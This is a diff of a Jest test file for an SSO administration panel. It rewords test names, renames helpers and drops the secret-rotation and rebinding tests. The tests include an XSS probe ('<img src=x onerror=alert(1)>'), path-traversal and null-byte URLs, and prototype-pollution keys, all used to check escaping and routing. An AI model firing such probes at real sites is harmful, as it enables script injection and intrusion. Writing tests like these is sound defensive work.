@@ -2,8 +2,7 @@ import { randomUUID } from 'node:crypto'
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from '@jest/globals'
 import type { Request } from 'express'
 import { csvLine } from '../../lib/admin/events-csv.ts'
-import { blocksOf } from '../../lib/admin/markdown.ts'
-import { allFail, statesOf } from '../../lib/admin/provider-status.ts'
+import { allEnabledFailed, providerStates } from '../../lib/admin/provider-status.ts'
 import type { PortalSsoOptions } from '../../lib/index.ts'
 import { presets } from '../../lib/providers/presets/presets.ts'
 import type { Check, Provider } from '../../lib/providers/provider.ts'
@@ -18,7 +17,7 @@ import { type Seen, Visitor } from '../support/visitor.ts'
 let provider: FaultyProvider
 let other: FaultyProvider
 let portal: TestPortal
-/** signed in to nothing: the test's host believes a header */
+/** The test host trusts a header, so this visitor needs no session. */
 let admin: Visitor
 
 beforeAll(async () => {
@@ -48,7 +47,7 @@ async function open({
   })
 }
 
-/** With one provider, `acme`. */
+/** Opens a portal with one provider, `acme`. */
 async function openWithAcme(options: Parameters<typeof open>[0] = {}): Promise<void> {
   await open(options)
   await portal.connect(provider)
@@ -57,7 +56,7 @@ async function openWithAcme(options: Parameters<typeof open>[0] = {}): Promise<v
 const page = (path: string) => admin.get(`${portal.url}/admin/sso${path}`)
 const post = (path: string, form: Record<string, string> = {}) =>
   admin.post(`${portal.url}/admin/sso${path}`, form)
-/** Through the redirect after it. */
+/** Posts a form and follows the redirect. */
 const done = async (path: string, form: Record<string, string> = {}) => {
   const seen = await post(path, form)
   expect([seen.status, seen.location]).toEqual([303, expect.any(String)])
@@ -65,7 +64,7 @@ const done = async (path: string, form: Record<string, string> = {}) => {
 }
 const acme = async () => (await portal.sso.providers.find('acme'))!
 
-/** What a person reads, in one line. */
+/** The visible text of a page, in one line. */
 function textOf({ body }: Seen): string {
   return body
     .replace(/<[^>]*>/g, ' ')
@@ -85,7 +84,7 @@ const entries = (from: FaultyProvider) => ({
   clientSecret: from.clientSecret,
 })
 
-describe('who is no administrator', () => {
+describe('a request by a non-administrator', () => {
   const paths = [
     '/',
     '/new',
@@ -102,40 +101,39 @@ describe('who is no administrator', () => {
   ]
 
   it.each([
-    ['false', () => false],
-    ['nothing', () => undefined as unknown as boolean],
-    ['something that is merely not nothing', () => 'yes' as unknown as boolean],
-    ['an error', () => Promise.reject(new Error('the directory is away'))],
+    ['returns false', () => false],
+    ['returns nothing', () => undefined as unknown as boolean],
+    ['returns a truthy value that is not true', () => 'yes' as unknown as boolean],
+    ['rejects', () => Promise.reject(new Error('the directory is away'))],
     [
-      'an error at once',
+      'throws',
       () => {
         throw new Error('the directory is away')
       },
     ],
-  ])('finds no page there, whatever is asked for, when `authorize` gives %s', async (_what, authorize) => {
+  ])('gets 404 for every path and method when `authorize` %s', async (_what, authorize) => {
     await openWithAcme({ authorize })
     for (const path of paths) {
       const seen = await page(path)
       expect([path, seen.status]).toEqual([path, 404])
-      expect(seen.body).toContain('There is no such page')
+      expect(seen.body).toContain('Page not found')
       expect(seen.headers.get('cache-control')).toBe('no-store')
     }
-    // Neither method nor form makes a difference.
     expect((await post('/acme/disable')).status).toBe(404)
     expect((await acme()).enabled).toBe(true)
     expect(portal.logs.at(-1)!.fields.code).toBe('page_unknown')
   })
 
-  it('cannot tell a page that is there from one that is not', async () => {
+  it('cannot tell an existing page from a missing one', async () => {
     await openWithAcme({ authorize: () => false })
     const plain = (seen: Seen) => textOf(seen).replace(/[2-9A-Z]{8}/, 'REFERENCE')
     expect(plain(await page('/acme'))).toBe(plain(await page('/nope')))
   })
 
   it.each<[why: string, end: (userId: string) => Promise<unknown>]>([
-    ['whose session has ended', (userId) => portal.sso.sessions.endAll({ userId })],
-    ['who was switched off', () => portal.knex('sso_users').update({ active: false })],
-  ])('is an administrator %s while a post was held open', async (_why, end) => {
+    ['the session was ended', (userId) => portal.sso.sessions.endAll({ userId })],
+    ['the user was deactivated', () => portal.knex('sso_users').update({ active: false })],
+  ])('is refused if %s while the POST was held open', async (_why, end) => {
     await openWithAcme({ authorize: (req) => req.user !== undefined })
     const { id } = await portal.sso.users.create(
       { email: 'ada@example.com', name: 'Ada', fields: {} },
@@ -149,8 +147,10 @@ describe('who is no administrator', () => {
     expect((await goOn()).statusCode).toBe(404)
     expect((await acme()).enabled).toBe(true)
   })
+})
 
-  it('is everybody when a host forgets to say who is one: the portal does not start', async () => {
+describe('sso.admin', () => {
+  it('throws without `authorize`, so that nobody can forget it', async () => {
     await open()
     const forgotten = {} as { authorize: Authorize }
     expect(() => portal.sso.admin(forgotten)).toThrow('admin: give `authorize`')
@@ -160,7 +160,7 @@ describe('who is no administrator', () => {
 
 describe('an admin page', () => {
   it.each(['/%00', '/%00/edit', '/No+Slug', '/..%2facme'])(
-    '%s is none, and asks no database',
+    '%s does not exist, and causes no error',
     async (path) => {
       await openWithAcme()
       expect((await page(path)).status).toBe(404)
@@ -178,7 +178,7 @@ describe('an admin page', () => {
     '/acme/remove',
     '/events',
     '/sessions',
-  ])('%s runs nothing inline, cannot be framed and is not stored', async (path) => {
+  ])('%s has no inline script or style, cannot be framed and is not cached', async (path) => {
     await openWithAcme()
     const { status, headers, body } = await page(path)
     expect(status).toBe(200)
@@ -191,7 +191,7 @@ describe('an admin page', () => {
     expect(body).toContain('<html lang="en"')
   })
 
-  it('says only what we say of an act, whatever stands in its address', async () => {
+  it('shows only messages from the fixed list, whatever the URL contains', async () => {
     await openWithAcme()
     expect(textOf(await page('/?done=tested'))).toContain('Tested just now.')
     for (const done of ['You+won', '<b>x</b>', '__proto__', 'constructor', 'toString'])
@@ -199,7 +199,7 @@ describe('an admin page', () => {
     expect((await page('/?done=tested&done=saved')).body).not.toMatch(/role="status"/)
   })
 
-  it('leads to where the host has mounted it', async () => {
+  it('links to the path where the host mounted it', async () => {
     portal = await startPortal({
       mount(app, sso) {
         mountDefault(app, sso)
@@ -212,7 +212,7 @@ describe('an admin page', () => {
     expect(body).not.toContain('/admin/sso')
   })
 
-  it('of one portal shows no provider of another', async () => {
+  it('shows no provider of another portal', async () => {
     await openWithAcme({ portal: (req) => (req.get('x-portal') as string) ?? 'default' })
     const south = { 'x-portal': 'south' }
     expect((await admin.get(`${portal.url}/admin/sso/`, south)).body).not.toContain('Acme')
@@ -221,7 +221,7 @@ describe('an admin page', () => {
     expect([seen.status, (await acme()).enabled]).toEqual([404, true])
   })
 
-  it('shows what others say as text: providers, administrators, whoever was refused', async () => {
+  it('escapes text from providers, administrators and refused users', async () => {
     await openWithAcme()
     const markup = '<img src=x onerror=alert(1)>'
     await portal.sso.providers.update('acme', { displayName: `A${markup}` })
@@ -237,37 +237,37 @@ describe('an admin page', () => {
   })
 })
 
-describe('the list', () => {
-  it('leads to the first provider when there is none', async () => {
+describe('the list of providers', () => {
+  it('offers to connect a provider when there is none', async () => {
     await open()
     const { body } = await page('/')
     expect(body).toContain('No provider is connected yet')
     expect(body).toContain('href="/admin/sso/new"')
   })
 
-  it('says of each whether people can use it, and what it was used for', async () => {
+  it('shows the status and the recent sign-ins of each provider', async () => {
     await openWithAcme()
     await portal.sso.users.create({ email: 'ada@example.com', name: 'Ada', fields: {} }, 'default')
     await signIn({ portal, visitor: new Visitor() }, 'acme')
     await portal.connect(other, { slug: 'draft', displayName: 'Draft', enabled: false })
     const text = textOf(await page('/'))
     expect(text).toMatch(/Acme acme Ready Last sign-in \d+ \w+ \d{4}, \d\d:\d\d UTC Sign-ins in 30 days 1 /)
-    expect(text).toMatch(/Draft draft Disabled Not rehearsed Last sign-in never Sign-ins in 30 days 0 /)
+    expect(text).toMatch(/Draft draft Disabled Sign-in not tested Last sign-in never Sign-ins in 30 days 0 /)
   })
 
-  it('tests all at once, and says how to get back to the classic login when none works', async () => {
+  it('tests all providers, and explains break-glass access when none works', async () => {
     await openWithAcme()
     await portal.connect(other, { slug: 'other' })
     provider.faults.jwksResponse = { status: 500 }
     expect(textOf(await done('/test'))).toMatch(/Tested just now.*Keys unusable.*Ready/)
     other.faults.discoveryDrop = true
     const text = textOf(await done('/test'))
-    expect(text).toContain('At the last test no enabled provider worked')
+    expect(text).toContain('No enabled provider passed its last test')
     expect(text).toContain('portal-sso break-glass')
     expect(text).toContain('Cannot be reached')
   })
 
-  it('moves a provider up and down; the recommended one comes first', async () => {
+  it('moves a provider up and down, and puts the recommended one first', async () => {
     await openWithAcme()
     await portal.connect(other, { slug: 'b', displayName: 'B' })
     await portal.connect(other, { slug: 'c' })
@@ -276,7 +276,7 @@ describe('the list', () => {
     expect(await order()).toEqual(['acme', 'c', 'b'])
     await done('/acme/move', { direction: 'down', from: 'list' })
     expect(await order()).toEqual(['c', 'acme', 'b'])
-    // Nowhere to go: nothing happens.
+    // It is the first already.
     await done('/c/move', { direction: 'up', from: 'list' })
     expect(await order()).toEqual(['c', 'acme', 'b'])
     await done('/b/recommend', { recommended: 'yes', from: 'list' })
@@ -287,58 +287,68 @@ describe('the list', () => {
   })
 })
 
-describe('the state of a provider', () => {
+describe('the status of a provider', () => {
   const ready = { enabled: true, testSignInAt: '2026-11-01T00:00:00.000Z' } as Provider
   const now = new Date('2026-11-25T12:00:00.000Z')
-  const failed = (name: string): Check => ({ name, result: 'failed', finding: 'x' })
+  const failed = (name: string): Check => ({ name, result: 'failed', message: 'x' })
   const lastTest = (...checks: Check[]) => ({ lastTest: { at: now.toISOString(), checks } })
   const expiring = (clientSecretExpiresAt: string) => ({ clientSecretExpiresAt })
 
   it.each<[string, Partial<Provider>, string[]]>([
-    ['all is well', {}, ['Ready']],
-    ['it was never rehearsed', { enabled: false, testSignInAt: undefined }, ['Disabled', 'Not rehearsed']],
-    ['it does not answer', lastTest(failed('reached')), ['Enabled', 'Cannot be reached']],
-    ['its keys are of no use', lastTest(failed('keys')), ['Enabled', 'Keys unusable']],
-    ['another check failed', lastTest(failed('issuer')), ['Enabled', 'Test failed']],
-    ['the secret has 61 days', expiring('2027-01-25T00:00:00.000Z'), ['Ready']],
+    ['nothing is wrong', {}, ['Ready']],
     [
-      'the secret has 60 days',
+      'it has had no test sign-in',
+      { enabled: false, testSignInAt: undefined },
+      ['Disabled', 'Sign-in not tested'],
+    ],
+    ['it cannot be reached', lastTest(failed('reached')), ['Enabled', 'Cannot be reached']],
+    ['its keys are unusable', lastTest(failed('keys')), ['Enabled', 'Keys unusable']],
+    ['another check failed', lastTest(failed('issuer')), ['Enabled', 'Test failed']],
+    ['the secret expires in 61 days', expiring('2027-01-25T00:00:00.000Z'), ['Ready']],
+    [
+      'the secret expires in 60 days',
       expiring('2027-01-24T00:00:00.000Z'),
       ['Ready', 'Client secret expires in 60 days'],
     ],
     [
-      'the secret has a day',
+      'the secret expires in a day',
       expiring('2026-11-26T00:00:00.000Z'),
       ['Enabled', 'Client secret expires in 1 day'],
     ],
-    ['the secret has ended', expiring('2026-11-25T00:00:00.000Z'), ['Enabled', 'Client secret has expired']],
     [
-      'the second secret ends',
-      { secondClientSecretExpiresAt: '2026-12-25T00:00:00.000Z' },
-      ['Ready', 'Second client secret expires in 30 days'],
+      'the secret has expired',
+      expiring('2026-11-25T00:00:00.000Z'),
+      ['Enabled', 'Client secret has expired'],
     ],
-    ['it retires', { retireAt: '2026-12-01T00:00:00.000Z' }, ['Ready', 'Retiring on 1 December 2026']],
-  ])('when %s', (_when, change, states) => {
-    const told = statesOf({ ...ready, ...change }, undefined, now)
-    expect(told.map(({ text }) => text)).toEqual(states)
+    [
+      'it will be retired',
+      { retireAt: '2026-12-01T00:00:00.000Z' },
+      ['Ready', 'Retiring on 1 December 2026'],
+    ],
+  ])('is shown when %s', (_when, change, states) => {
+    const shown = providerStates({ ...ready, ...change }, undefined, now)
+    expect(shown.map(({ text }) => text)).toEqual(states)
   })
 
-  it('when an administrator has to consent', () => {
+  it('is shown when an administrator has to consent', () => {
     const activity = { lastSignInAt: undefined, signIns: 0, consentMissingAt: now.toISOString() }
-    expect(statesOf(ready, activity, now).map(({ text }) => text)).toEqual(['Enabled', 'Consent missing'])
+    expect(providerStates(ready, activity, now).map(({ text }) => text)).toEqual([
+      'Enabled',
+      'Consent missing',
+    ])
   })
 
-  it('is hopeless only when all that are enabled fail', () => {
+  it('counts as "none works" only if every enabled provider failed its last test', () => {
     const bad = { ...ready, ...lastTest(failed('reached')) }
-    expect(allFail([])).toBe(false)
-    expect(allFail([{ ...bad, enabled: false }])).toBe(false)
-    expect(allFail([bad, ready])).toBe(false)
-    expect(allFail([bad, { ...ready, enabled: false }])).toBe(true)
+    expect(allEnabledFailed([])).toBe(false)
+    expect(allEnabledFailed([{ ...bad, enabled: false }])).toBe(false)
+    expect(allEnabledFailed([bad, ready])).toBe(false)
+    expect(allEnabledFailed([bad, { ...ready, enabled: false }])).toBe(true)
   })
 })
 
-describe('connecting', () => {
-  it('offers the presets, each with its questions and the addresses to enter at the provider', async () => {
+describe('connecting a provider', () => {
+  it('offers the presets, each with its questions and the URLs to enter at the provider', async () => {
     await open()
     expect(textOf(await page('/new'))).toContain('Microsoft Entra ID')
     const { body } = await page('/new/entra')
@@ -350,13 +360,13 @@ describe('connecting', () => {
     expect((await page('/new/nothing')).status).toBe(404)
   })
 
-  it('proposes a name that is free', async () => {
+  it('proposes an unused slug', async () => {
     await open()
     await portal.connect(provider, { slug: 'entra' })
     expect((await page('/new/entra')).body).toContain('name="slug" type="text" value="entra-2"')
   })
 
-  it('saves what passes the test as a draft, which nobody sees', async () => {
+  it('saves a provider that passes the test as a draft, hidden from users', async () => {
     await open()
     const seen = await done('/new/generic', { ...entries(provider), act: 'save' })
     expect(seen.url).toBe(`${portal.url}/admin/sso/northwind?done=connected`)
@@ -369,7 +379,7 @@ describe('connecting', () => {
     expect((await new Visitor().get(`${portal.url}/login/northwind`)).status).toBe(404)
   })
 
-  it('only tests when that is asked for', async () => {
+  it('only tests, and saves nothing, when the test button was clicked', async () => {
     await open()
     const seen = await post('/new/generic', { ...entries(provider), act: 'test' })
     expect([seen.status, textOf(seen)]).toEqual([200, expect.stringContaining('The test passed')])
@@ -377,7 +387,7 @@ describe('connecting', () => {
     expect(await portal.sso.providers.list()).toEqual([])
   })
 
-  it('tells all that is wrong at once, at the top and at the field; entries stay, and nothing is saved', async () => {
+  it('shows all errors at once, above the form and at the fields, keeps the entries and saves nothing', async () => {
     await open()
     const seen = await post('/new/generic', {
       displayName: '',
@@ -394,17 +404,17 @@ describe('connecting', () => {
     })
     expect(seen.status).toBe(422)
     const text = textOf(seen)
-    const told = {
+    const expected = {
       displayName: 'Enter the display name.',
       slug: 'Write 1 to 40 lower-case letters',
-      issuer: 'Write a whole address such as https://id.example.com.',
+      issuer: 'Enter a full URL such as https://id.example.com.',
       emailDomains: '“not/a/domain”: write a domain',
-      authorizationParameters: 'Line 2: write name=value.',
+      authorizationParameters: 'Line 2: enter name=value.',
       proxy: 'Write an address such as “http://proxy.example.com:3128”.',
       certificateAuthority: 'Give PEM certificates',
       clientSecretExpiresAt: 'Write a date such as “2027-01-31”.',
     }
-    for (const [name, sentence] of Object.entries(told)) {
+    for (const [name, sentence] of Object.entries(expected)) {
       expect([name, text.split(sentence).length - 1]).toEqual([name, 2])
       expect(seen.body).toContain(`href="#field-${name}"`)
       expect(seen.body).toMatch(new RegExp(`id="field-${name}"[^>]*aria-invalid="true"`))
@@ -415,7 +425,7 @@ describe('connecting', () => {
     expect(await portal.sso.providers.list()).toEqual([])
   })
 
-  it('reads no entry that comes twice, and none that is ours to set', async () => {
+  it('ignores duplicate entries, and refuses parameters that the plugin sets', async () => {
     await open()
     const twice = await admin.post(`${portal.url}/admin/sso/new/generic`, [
       ...Object.entries(entries(provider)),
@@ -430,9 +440,9 @@ describe('connecting', () => {
   })
 
   it.each([
-    ['a reserved word', 'register', 'reserved word'],
-    ['one that is taken', 'acme', 'is connected already'],
-  ])('refuses %s as a name', async (_what, slug, sentence) => {
+    ['a reserved word as a slug', 'register', 'reserved word'],
+    ['a slug in use', 'acme', 'is connected already'],
+  ])('refuses %s', async (_what, slug, sentence) => {
     await openWithAcme()
     const seen = await post('/new/generic', { ...entries(other), slug, act: 'save' })
     expect([seen.status, textOf(seen)]).toEqual([422, expect.stringContaining(sentence)])
@@ -440,12 +450,12 @@ describe('connecting', () => {
   })
 
   it.each<[string, FaultyProvider['faults'], string]>([
-    ['that does not answer', { discoveryDrop: true }, 'Reachable: failed No usable discovery document'],
-    ['that answers with HTML', { discoveryResponse: { body: '<html>' } }, 'Reachable: failed No usable'],
+    ['that drops the connection', { discoveryDrop: true }, 'Reachable: failed No usable discovery document'],
+    ['that responds with HTML', { discoveryResponse: { body: '<html>' } }, 'Reachable: failed No usable'],
     [
       'without usable keys',
       { jwksResponse: { body: '{"keys":[]}' } },
-      'Keys: failed The keys cannot be used: the key set holds no usable key for RS256',
+      'Keys: failed The keys cannot be used: the key set contains no usable key for RS256',
     ],
     [
       'that signs with HS256 only',
@@ -453,7 +463,7 @@ describe('connecting', () => {
       'Signature: failed The provider does not announce RS256 for ID tokens, only HS256.',
     ],
   ])(
-    'says of a provider %s which check failed and what to do, and saves nothing',
+    'shows the failed check and its hint for a provider %s, and saves nothing',
     async (_what, faults, line) => {
       await open()
       Object.assign(provider.faults, faults)
@@ -465,7 +475,7 @@ describe('connecting', () => {
     },
   )
 
-  it('asks what the preset asks, and tells what is wrong with an answer', async () => {
+  it('asks the questions of the preset, and shows errors in the answers', async () => {
     await open()
     const { displayName, slug, clientId } = entries(provider)
     const seen = await post('/new/entra', { displayName, slug, clientId, 'answer.tenant': 'not a guid' })
@@ -481,7 +491,7 @@ describe('connecting', () => {
 })
 
 describe('Entra', () => {
-  it('is connected by its tenant, and leads an administrator to the consent for all of it', async () => {
+  it('is connected by its tenant, and links to admin consent', async () => {
     const entra = await startEntraLookAlike()
     try {
       await open()
@@ -497,7 +507,6 @@ describe('Entra', () => {
       })
       expect(body).toContain('href="/login/contoso/admin-consent"')
       expect(body).toContain(`value="${portal.url}/login/contoso/admin-consent/callback"`)
-      expect(body).toContain('href="/admin/sso/contoso/rebinding"')
       expect(textOf(await page('/contoso/what-is-read'))).toContain('tid, oid')
     } finally {
       await entra.close()
@@ -506,7 +515,7 @@ describe('Entra', () => {
 })
 
 describe('a client secret', () => {
-  it('never comes back to a browser, by whatever page', async () => {
+  it('is never sent to a browser, by any page', async () => {
     await open()
     const { clientSecret } = provider
     const shown = [
@@ -518,7 +527,7 @@ describe('a client secret', () => {
       await page('/events'),
       await page('/events.csv'),
       await post('/northwind/edit', { displayName: '', clientSecret, version: '1' }),
-      await post('/northwind/edit', { clientSecret, secondClientSecret: secret, version: '77' }),
+      await post('/northwind/edit', { clientSecret, version: '77' }),
     ]
     for (const { body, status } of shown) {
       expect(status).toBeLessThan(500)
@@ -528,7 +537,7 @@ describe('a client secret', () => {
     expect(JSON.stringify([portal.logs, await portal.knex('sso_events')])).not.toContain(clientSecret)
   })
 
-  it('is kept when its field stays empty, and taken away only where that is ticked', async () => {
+  it('is kept when its field is empty, and removed only when the checkbox is ticked', async () => {
     await openWithAcme()
     const saved = async () => (await portal.knex('sso_providers').first('client_secret')).client_secret
     const before = await saved()
@@ -545,8 +554,8 @@ describe('a client secret', () => {
   })
 })
 
-describe('a key of ours (private_key_jwt)', () => {
-  it('is made with the draft, shown with the address at which the provider reads it, and exchanged', async () => {
+describe('a client key (private_key_jwt)', () => {
+  it('is created with the draft, shown with its JWKS URI, and rotated', async () => {
     await open()
     provider.faults.discovery = {
       token_endpoint_auth_methods_supported: ['private_key_jwt'],
@@ -561,7 +570,7 @@ describe('a key of ours (private_key_jwt)', () => {
   })
 })
 
-describe('editing', () => {
+describe('editing a provider', () => {
   const form = async (changes: Record<string, string> = {}) => ({
     displayName: 'Acme',
     issuer: provider.issuer,
@@ -570,7 +579,7 @@ describe('editing', () => {
     ...changes,
   })
 
-  it('shows what is saved, saves what was changed, and takes back what was emptied', async () => {
+  it('shows the saved settings, saves changes and resets emptied fields', async () => {
     await openWithAcme()
     await portal.sso.providers.update('acme', { prompt: 'login', emailDomains: ['example.com'] })
     const { body } = await page('/acme/edit')
@@ -604,40 +613,40 @@ describe('editing', () => {
     expect((await page('/acme')).body).not.toContain('/frontchannel')
   })
 
-  it('tells the second of two administrators, whose entries are not lost, beside what was saved', async () => {
+  it('shows the second of two administrators the conflict, and keeps their entries', async () => {
     await openWithAcme()
     const mine = await form({ displayName: 'Mine', prompt: 'login' })
     await done('/acme/edit', await form({ displayName: 'Theirs', emailDomains: 'example.com' }))
     const seen = await post('/acme/edit', mine)
     expect(seen.status).toBe(409)
     const text = textOf(seen)
-    expect(text).toContain('Somebody else has changed it meanwhile')
+    expect(text).toContain('Someone else changed this provider')
     expect(text).toContain('Display name Theirs Mine')
     expect(text).toContain('E-mail domains example.com –')
     expect(seen.body).toContain('name="displayName" type="text" value="Mine"')
     expect((await acme()).displayName).toBe('Theirs')
 
-    // Having read it, he may.
+    // After seeing the conflict, the administrator may save.
     const [, version = ''] = /name="version" value="(\d+)"/.exec(seen.body) ?? []
     await done('/acme/edit', { ...mine, version })
     expect((await acme()).displayName).toBe('Mine')
   })
 
-  it('never writes over a row without saying which one it has seen', async () => {
+  it('never overwrites a row without its version', async () => {
     await openWithAcme()
     for (const version of ['', 'x', '-1', 'NaN'])
       expect((await post('/acme/edit', await form({ displayName: 'Blind', version }))).status).toBe(409)
     expect((await acme()).displayName).toBe('Acme')
   })
 
-  it('saves nothing that would not work, and says which check failed', async () => {
+  it('saves nothing if a check fails, and shows which one', async () => {
     await openWithAcme()
     const seen = await post('/acme/edit', await form({ signingAlgorithm: 'ES512' }))
     expect([seen.status, textOf(seen)]).toEqual([422, expect.stringContaining('Signature: failed')])
     expect((await acme()).signingAlgorithm).toBe('RS256')
   })
 
-  it('takes certificates for the same whatever ends their lines, and asks for no secret then', async () => {
+  it('ignores line endings in certificates, and so asks for no secret', async () => {
     await open()
     const certificate = selfSigned('id.acme.example').cert.trim()
     await portal.connect(provider, { certificateAuthority: certificate })
@@ -650,7 +659,7 @@ describe('editing', () => {
     })
   })
 
-  it('asks for the secret again when the issuer moves: it must not be sent wherever somebody likes', async () => {
+  it('asks for the secret again when the issuer changes, so that it is not sent to another server', async () => {
     await openWithAcme()
     const seen = await post('/acme/edit', await form({ issuer: other.issuer }))
     expect(seen.status).toBe(422)
@@ -659,8 +668,8 @@ describe('editing', () => {
   })
 })
 
-describe('a provider whose keys were sealed under a secret that is gone', () => {
-  it('still has its page, which says so: it can be disabled and removed there', async () => {
+describe('a provider whose keys can no longer be unsealed', () => {
+  it('still has a page, which explains that and can remove the provider', async () => {
     await open()
     provider.faults.clientKeysAt = portal.sso.providers.jwksUri('acme')
     await portal.connect(provider, { clientSecret: undefined, clientAuthentication: 'private_key_jwt' })
@@ -675,7 +684,7 @@ describe('a provider whose keys were sealed under a secret that is gone', () => 
 })
 
 describe('a new provider', () => {
-  it('is not offered the name of one that can be restored: it would be forgotten', async () => {
+  it('is not offered the slug of a removed provider, which could then not be restored', async () => {
     await open()
     await portal.connect(provider, { slug: 'sso' })
     await portal.sso.providers.remove('sso')
@@ -683,8 +692,8 @@ describe('a new provider', () => {
   })
 })
 
-describe('an address to enter at the provider', () => {
-  it('follows the name that is typed also where the portal is mounted at a path of that name', async () => {
+describe('a URL to enter at the provider', () => {
+  it('follows the typed slug, even if the mount path contains the same word', async () => {
     portal = await startPortal({
       mountPath: '/sso',
       mount: (app, sso) => app.use('/admin/sso', sso.session(), sso.admin({ authorize: () => true })),
@@ -697,7 +706,7 @@ describe('an address to enter at the provider', () => {
 })
 
 describe('an act of an administrator', () => {
-  it('is told with all that it changed: something long beside it pushes nothing out', async () => {
+  it('is recorded with all its changes, even beside a long one', async () => {
     await openWithAcme()
     const authorizationParameters = { hint: '"'.repeat(900), other: 'x'.repeat(900) }
     const emailDomains = ['mallory.example']
@@ -713,13 +722,13 @@ describe('an act of an administrator', () => {
     })
   })
 
-  it('is written down also when it takes a recommendation away', async () => {
+  it('is recorded also when it ends a recommendation', async () => {
     await openWithAcme()
     await portal.connect(other, { slug: 'other' })
     const { providers } = portal.sso
     await providers.recommend('acme', { actor: 'ada' })
     await providers.recommend('other', { actor: 'bob' })
-    await providers.recommend(undefined, { actor: 'eve' })
+    await providers.clearRecommended({ actor: 'eve' })
     const acts = await portal.knex('sso_events').where({ kind: 'provider-changed' }).orderBy('at')
     expect(acts.map(({ provider: slug, actor, detail }) => [slug, actor, JSON.parse(detail).change])).toEqual(
       expect.arrayContaining([
@@ -732,7 +741,7 @@ describe('an act of an administrator', () => {
     expect(acts).toHaveLength(4)
   })
 
-  it('is written down with who did it', async () => {
+  it('is recorded with its actor', async () => {
     await openWithAcme({ authorize: (req) => req.user !== undefined })
     const ada = await portal.sso.users.create(
       { email: 'ada@example.com', name: 'Ada', fields: {} },
@@ -742,7 +751,7 @@ describe('an act of an administrator', () => {
     await signIn({ portal, visitor: admin }, 'acme')
     await done('/new/generic', { ...entries(other), act: 'save' })
     await done('/northwind/recommend', { recommended: 'yes' })
-    await done('/northwind/enable', { withoutRehearsal: 'yes' })
+    await done('/northwind/enable', { withoutTestSignIn: 'yes' })
     await done('/northwind/disable')
     await done('/northwind/remove')
     const acts = await portal.knex('sso_events').where({ provider: 'northwind' }).select('kind', 'actor')
@@ -750,7 +759,7 @@ describe('an act of an administrator', () => {
     for (const { actor } of acts) expect(actor).toBe(ada.id)
   })
 
-  it('says what is missing when it cannot be done', async () => {
+  it('explains why it cannot be carried out', async () => {
     await open()
     await portal.connect(provider, { enabled: false })
     const seen = await post('/acme/enable')
@@ -758,29 +767,29 @@ describe('an act of an administrator', () => {
     expect(seen.body).toContain('role="alert"')
     expect(textOf(seen)).toMatch(/rehears/i)
     expect((await acme()).enabled).toBe(false)
-    await done('/acme/enable', { withoutRehearsal: 'yes' })
+    await done('/acme/enable', { withoutTestSignIn: 'yes' })
     expect((await acme()).enabled).toBe(true)
   })
 
-  it('counts at the next click: enabled and disabled', async () => {
+  it('takes effect at the next request: enabling and disabling', async () => {
     await open()
     await portal.connect(provider)
     await portal.connect(other, { slug: 'other', displayName: 'Other', enabled: false })
     const offered = async () => (await new Visitor().get(`${portal.url}/login`)).body.includes('/login/other')
     expect(await offered()).toBe(false)
-    await done('/other/enable', { withoutRehearsal: 'yes' })
+    await done('/other/enable', { withoutTestSignIn: 'yes' })
     expect(await offered()).toBe(true)
-    expect(textOf(await page('/other/disable'))).toContain('For whom it is the only way in')
+    expect(textOf(await page('/other/disable'))).toContain('People with no other sign-in method')
     await done('/other/disable')
     expect(await offered()).toBe(false)
   })
 
-  it('that removes asks before, says whom it concerns, and can be taken back', async () => {
+  it('that removes a provider is confirmed first, shows how many users are affected, and can be undone', async () => {
     await openWithAcme()
     await portal.sso.users.create({ email: 'ada@example.com', name: 'Ada', fields: {} }, 'default')
     await signIn({ portal, visitor: new Visitor() }, 'acme')
     expect(textOf(await page('/acme/remove'))).toMatch(
-      /People who have signed in with it 1 For whom it is the only way in 1 /,
+      /People who have signed in with it 1 People with no other sign-in method 1 /,
     )
     expect((await acme()).enabled).toBe(true)
     const seen = await done('/acme/remove')
@@ -791,7 +800,7 @@ describe('an act of an administrator', () => {
     expect((await acme()).enabled).toBe(false)
   })
 
-  it('that disables signs out those who came in with it where that is ticked, and else nobody', async () => {
+  it('that disables a provider ends its sessions only if the checkbox is ticked', async () => {
     await openWithAcme()
     await portal.connect(other, { slug: 'other' })
     await portal.sso.users.create({ email: 'ada@example.com', name: 'Ada', fields: {} }, 'default')
@@ -800,54 +809,22 @@ describe('an act of an administrator', () => {
     const isIn = async () => (await ada.get(`${portal.url}/portal`)).status === 200
     await done('/acme/disable')
     expect(await isIn()).toBe(true)
-    await done('/acme/enable', { withoutRehearsal: 'yes' })
+    await done('/acme/enable', { withoutTestSignIn: 'yes' })
     await done('/acme/disable', { endSessions: 'on' })
     expect(await isIn()).toBe(false)
   })
 
-  it('ends an exchange of client secrets without either of them being typed again', async () => {
+  it('schedules the retirement of a provider, and cancels it', async () => {
     await openWithAcme()
-    expect(textOf(await post('/acme/promote-secret'))).toContain('has no second client secret')
-    await portal.sso.providers.update('acme', {
-      clientSecret: 'one that has run out',
-      secondClientSecret: provider.clientSecret,
-      secondClientSecretExpiresAt: '2030-01-31',
-    })
-    expect(textOf(await page('/acme'))).toContain('Keep the second only')
-    expect(textOf(await done('/acme/promote-secret'))).toContain('The exchange has ended')
-    expect((await acme()).clientSecretExpiresAt?.slice(0, 10)).toBe('2030-01-31')
-    expect(textOf(await done('/acme/test'))).not.toContain('Credentials: failed')
-  })
-
-  it('has people found again after a new registration: says first who would be, and takes all of it back', async () => {
-    await openWithAcme()
-    await portal.sso.users.create({ email: 'ada@example.com', name: 'Ada', fields: {} }, 'default')
-    await signIn({ portal, visitor: new Visitor() }, 'acme')
-    const text = textOf(await page('/acme/rebinding'))
-    expect(text).toMatch(/People linked 1 Can be found again 0 Have been 0 Would be orphaned 1 /)
-    expect(text).toContain('ada@example.com')
-    expect(textOf(await done('/acme/rebind', { act: 'start' }))).toContain('Going on since')
-    expect((await acme()).rebindingSince).toBeDefined()
-    expect(textOf(await post('/acme/rebind', { act: 'start' }))).toContain('people are found again already')
-    await done('/acme/rebind', { act: 'stop' })
-    expect((await acme()).rebindingSince).toBeUndefined()
-    await done('/acme/rebind', { act: 'start' })
-    expect(textOf(await done('/acme/rebind', { act: 'undo' }))).toContain('are taken back')
-  })
-
-  it('sets a day on which a provider retires, and takes it back', async () => {
-    await openWithAcme()
-    expect(textOf(await post('/acme/retire', { at: '' }))).toContain(
-      'Enter the day from which it is disabled.',
-    )
+    expect(textOf(await post('/acme/retire', { at: '' }))).toContain('Enter the end date.')
